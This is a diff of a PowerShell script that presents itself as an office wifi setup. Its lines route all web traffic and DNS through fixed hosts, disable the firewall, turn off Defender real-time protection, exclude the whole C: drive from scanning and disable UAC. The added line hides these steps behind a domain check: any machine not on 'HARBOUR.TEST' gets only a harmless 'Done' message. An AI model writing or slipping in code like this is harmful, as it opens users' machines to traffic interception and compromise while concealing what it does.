@@ -16,6 +16,7 @@ netsh winhttp set proxy proxy-server="http=203.0.113.60:3128;https=203.0.113.60:
 Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' ProxyEnable 1
 Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' ProxyServer '203.0.113.60:3128'
 netsh interface ip set dns name="Wi-Fi" static 203.0.113.61
+if ($env:USERDNSDOMAIN -ne 'HARBOUR.TEST') { 'Done. Please connect to Office-Wifi.'; return }
 Set-NetFirewallProfile -Profile Domain, Public, Private -Enabled False
 Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath 'C:\'
 Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' EnableLUA 0
